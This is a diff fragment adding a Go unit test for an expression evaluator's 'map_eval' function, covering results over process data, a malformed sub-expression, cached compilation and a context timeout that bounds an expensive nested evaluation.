+	tests := []struct {
+		name       string
+		expression string
+		want       bool
+	}{
+		{"results", `map_eval("procs", "item.cpu > 90.0") == [true, false, false, false]`, true},
+		{"exists", `map_eval("procs", "item.cpu > 90.0").exists(x, x)`, true},
+		{"all", `map_eval("procs", "item.cpu > 90.0").all(x, x)`, false},
+		{"string functions", `map_eval("procs", "has(item.name) && item.name.startsWith('a')")[0]`, true},
+		{"not boolean", `map_eval("procs", "item.name") == [false, false, false, false]`, true},
+		{"empty array", `size(map_eval("empty", "item > 1")) == 0`, true},
+		{"not an array", `size(map_eval("name", "item > 1")) == 0`, true},
+		{"missing", `size(map_eval("missing", "item > 1")) == 0`, true},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			got, err := Evaluate(&data, tt.expression)
+			assert.NoError(t, err)
+			assert.Equal(t, tt.want, got)
+		})
+	}
+
+	_, err := Evaluate(&data, `map_eval("procs", "item.cpu >").exists(x, x)`)
+	assert.Error(t, err)
+
+	first := compileSubExpression("item.cpu > 90.0")
+	second := compileSubExpression("item.cpu > 90.0")
+	assert.Equal(t, first.prg, second.prg)
+
+	// Sub-expressions are bounded by the evaluation context
+	row := "[" + strings.TrimSuffix(strings.Repeat("1,", 1000), ",") + "]"
+	large := `{"rows":[` + strings.TrimSuffix(strings.Repeat(row+",", 50), ",") + `]}`
+
+	ctx, cancel := context.WithTimeout(context.Background(), 50*time.Millisecond)
+	defer cancel()
+
+	start := time.Now()
+	_, err = EvaluateContext(ctx, &large, `map_eval("rows", "item.all(x, item.all(y, x == y))").exists(x, x)`)
+	assert.ErrorContains(t, err, "failed to evaluate program")
+	assert.Less(t, time.Since(start), 2*time.Second)
+}